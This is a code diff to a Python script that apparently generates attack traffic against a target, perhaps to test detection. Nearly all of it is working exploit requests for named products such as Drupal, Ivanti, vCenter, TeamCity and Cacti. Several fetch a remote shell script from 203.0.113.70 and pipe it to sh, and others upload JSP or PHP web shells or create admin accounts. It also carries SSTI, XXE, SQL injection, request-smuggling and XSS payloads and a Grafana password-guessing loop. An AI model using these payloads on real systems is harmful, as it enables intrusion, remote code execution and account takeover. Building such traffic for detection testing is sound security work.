@@ -62,6 +62,25 @@ REQUESTS["commands"] = [("GET", "/ping?host=" + q("127.0.0.1" + c), (), b"") for
 REQUESTS["scripts"] = [("GET", "/search?q=" + q(x), (), b"") for x in ("<svg/onload=alert(1)>", "\"><img src=x onerror=prompt(1)>", "<details open ontoggle=confirm()>", "javascript:alert(1)//", "'-alert(1)-'", "<a href=\"jAvAsCrIpT:alert(1)\">x</a>", "</title><sCript>alert(1)</sCript>", "<iframe srcdoc='<script>parent.x()</script>'>", "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">", "{{constructor.constructor('alert(1)')()}}")]
 REQUESTS["crlf"] = get("/go?to=" + q("//evil.example/%2f.."), "/go?to=%0d%0aSet-Cookie:%20sid=1", "/%0d%0aX-Injected:%20yes", "/%E5%98%8A%E5%98%8DSet-Cookie:crlf=1", "/go?to=%0d%0a%0d%0a<script>alert(1)</script>", "/x?lang=en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK") + [("GET", "/", ["X-Forwarded-Host: evil.example", "X-Original-URL: /admin", "X-Rewrite-URL: /admin"], b"")]
 REQUESTS["webdav"] = [("OPTIONS", "/", (), b""), ("PROPFIND", "/", ["Depth: 1"], b"")] + [("PUT", f"/DavTestDir_x7/davtest_x7.{e}", (), b"<?php echo 7*7; system($_GET['c']); ?>" if e == "php" else b"<% eval request(\"c\") %>" if e[:3] == "asp" else b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>") for e in ("php", "asp", "aspx", "jsp", "cgi", "pl", "txt")] + [("MOVE", "/DavTestDir_x7/davtest_x7.txt", ["Destination: /DavTestDir_x7/davtest_x7.asp;.txt"], b"")]
+# What was added when the first were told, to see how far what was learnt carries.
+REQUESTS |= {
+    "drupal": [("POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", FORM, b"form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id")],
+    "hikvision": [("PUT", "/SDK/webLanguage", ["X-Requested-With: XMLHttpRequest"], b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(curl http://203.0.113.70/h.sh|sh>webLib/x)</language>"), *get("/x")],
+    "ivanti": get("/api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20203.0.113.70%3b", "/api/v1/totp/user-backup-code/../../system/system-information"),
+    "gateway": [("POST", "/actuator/gateway/routes/x7", JSON, b'{"id":"x7","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com"}'), ("POST", "/actuator/gateway/refresh", JSON, b""), *get("/actuator/gateway/routes/x7")],
+    "cloud_function": [("POST", "/functionRouter", ["spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec('curl 203.0.113.70')", *FORM], b"x")] * 2,
+    "nas": get("/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=Y3VybCAyMDMuMC4xMTMuNzAvYS5zaHxzaA==", "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ="),
+    "cacti": [("GET", "/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=%60curl%20203.0.113.70%2Fx%7Csh%60", ["X-Forwarded-For: 127.0.0.1"], b"")] * 2,
+    "openfire": get("/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp", "/setup/setup-s/%u002e%u002e/%u002e%u002e/user-create.jsp?csrf=x&username=hax&password=hax&passwordConfirm=hax&isadmin=on&create=Create+User"),
+    "teamcity": [("POST", "/hax?jsp=/app/rest/users;.jsp", JSON, b'{"username":"hax","password":"hax","email":"hax@x.example","roles":{"role":[{"roleId":"SYSTEM_ADMIN","scope":"g"}]}}'), *get("/app/rest/users/id:1/tokens/RPC2")],
+    "geoserver": get("/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),'curl%20203.0.113.70')"),
+    "vcenter": [("POST", "/ui/vropspluginui/rest/services/uploadova", ["Content-Type: multipart/form-data; boundary=WK"], b'--WK\r\nContent-Disposition: form-data; name="uploadFile"; filename="1.tar"\r\n\r\n../../usr/lib/vmware-vsphere-ui/server/work/deployer/s/global/42/0/h5ngc.war/resources/shell.jsp\0<%@page import="java.io.*"%><% Runtime.getRuntime().exec(request.getParameter("c")); %>\r\n--WK--\r\n'), *get("/ui/resources/shell.jsp?c=id")],
+    "coldfusion": get("/CFIDE/administrator/enter.cfm?locale=../../../../../../../../../../ColdFusion8/lib/password.properties%00en", "/CFIDE/administrator/index.cfm"),
+    "smuggle": [("POST", "/", ["Transfer-Encoding: chunked", "Transfer-Encoding: x"], b"0\r\n\r\nGET /admin HTTP/1.1\r\nX: y")] * 4,
+    "templates": [("GET", "/search?q=" + q(x), (), b"") for x in ("{{7*'7'}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "*{T(java.lang.Runtime).getRuntime().exec('id')}")],
+    "xxe": [("POST", "/search", XML, f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY {e}>]><r>&x;</r>'.encode()) for e in ('x SYSTEM "file:///etc/passwd"', 'x SYSTEM "http://203.0.113.70/x"', '% p SYSTEM "http://203.0.113.70/e.dtd"> %p; <!ENTITY y "', 'x SYSTEM "php://filter/convert.base64-encode/resource=index.php"')],
+    "sqli_hand": [("GET", "/view?id=" + q(x), (), b"") for x in ("1'", "1' AND '1'='1", "1' AND SLEEP(5)-- -", "1 UNION SELECT NULL,NULL,version()-- -", "-1' UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables-- -", "1;SELECT pg_sleep(5)--", "1' ORDER BY 10-- -", "1) OR 1=1#", "1' AND EXTRACTVALUE(1,CONCAT(0x7e,user()))-- -")],
+}
 NIKTO = "/ /robots.txt /cgi-bin/ /cgi-bin/test.cgi /cgi-bin/printenv /phpinfo.php /info.php /admin/ /administrator/ /manager/html /server-status /server-info /.htpasswd /.htaccess /backup.zip /site.tar.gz /db.sql /test/ /icons/ /doc/ /phpmyadmin/ /pma/ /mysqladmin/ /webmail/ /cgi-bin/awstats.pl /wwwboard/passwd.txt /scripts/iisadmin/default.htm /msadc/msadcs.dll /_vti_bin/shtml.exe /WEB-INF/web.xml /crossdomain.xml /trace.axd /elmah.axd /console /jmx-console/ /web-console/ /status?full=true /axis2/ /CFIDE/administrator/ /config.php.bak /index.php~ /login.php.old /.svn/entries /.DS_Store /solr/ /owa/ /xmlrpc.php /userinfo.php /cart32.exe /perl/env.pl /nikto-test-x7.html".split()
 WP = ["/", "/readme.html", "/xmlrpc.php", "/wp-cron.php", "/robots.txt", "/wp-content/debug.log", "/wp-content/uploads/", "/wp-config.php.save", "/wp-config.php~", "/wp-config.bak", "/wp-json/wp/v2/users/?per_page=100&page=1", *(f"/?author={i}" for i in range(1, 11)),
       *(f"/wp-content/plugins/{p}/readme.txt" for p in "akismet contact-form-7 elementor wordfence woocommerce duplicator wp-file-manager revslider wpforms-lite updraftplus really-simple-ssl jetpack ninja-forms loginizer all-in-one-seo-pack".split()), *(f"/wp-content/themes/{t}/style.css" for t in "twentytwenty twentytwentyone astra divi oceanwp".split())]
@@ -131,6 +150,13 @@ def forms(target, path, count, body, headers=()):
     for i in range(int(count)):
         quietly(ask, target, 80, "POST", path, [*FORM, *headers], body.replace("PASS", f"secret{1000 + i}").encode())
         time.sleep(0.25)
+
+
+def json_logins(target, path, count):
+    """What a console as Grafana's is tried with."""
+    for i in range(int(count)):
+        quietly(ask, target, 80, "POST", path, JSON, json.dumps({"user": "admin", "password": f"grafana{i}"}).encode())
+        time.sleep(0.2)
 
 
 def basic(target, path, count):
